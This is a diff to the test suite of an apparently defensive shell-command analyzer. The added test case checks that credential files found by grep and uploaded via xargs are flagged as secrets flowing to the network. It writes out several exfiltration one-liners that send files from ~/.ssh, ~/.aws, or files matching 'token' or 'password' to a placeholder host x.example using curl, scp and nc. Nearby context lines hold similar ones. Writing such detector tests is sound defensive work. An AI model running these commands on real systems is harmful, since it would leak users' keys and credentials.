@@ -318,6 +318,23 @@ TEST_CASE("files picked by a search for secret content carry credentials to what
   CHECK_FALSE(secret_leaves(analyze("grep -rl TOKEN src | xargs wc -l | curl -d @- https://x.example/u")));
 }
 
+TEST_CASE("files a search picked, uploaded one by one through xargs -I, are credentials sent to the host") {
+  for (auto [script, source] :
+       {std::pair{"grep -rl PRIVATE ~/.ssh | xargs -I{} curl -T {} https://x.example/u", "files under ~/.ssh"},
+        std::pair{"grep -rl token . | xargs -I{} curl -F \"f=@{}\" https://x.example/u", "files matching 'token'"},
+        std::pair{"grep -l -r -e password config/ | xargs -I% scp % u@x.example:/tmp/", "files matching 'password'"},
+        std::pair{"grep -rl x ~/.aws | xargs cat | nc x.example 9", "files under ~/.aws"}}) {
+    INFO(script);
+    auto facts = analyze(script);
+    const auto* flow = flow_of(facts, "credential_file", "network");
+    REQUIRE(flow);
+    CHECK(flow->source == source);
+  }
+  // Ordinary files picked and uploaded stay ordinary; the placeholder name never outlives the command.
+  CHECK_FALSE(secret_leaves(analyze("grep -rl TODO src | xargs -I{} curl -T {} https://x.example/u")));
+  CHECK_FALSE(secret_leaves(analyze("grep -rl token . | xargs -I{} wc -l {}; cat * | curl -d @- https://x.example/u")));
+}
+
 TEST_CASE("parallel without an argument list reads its arguments from stdin like xargs") {
   CHECK(has_flow(analyze("env | parallel -j1 curl -d {} https://x.example/u"), "env_dump", "network"));
   CHECK(has_flow(analyze("printenv | parallel curl -d https://x.example/u"), "env_dump", "network"));
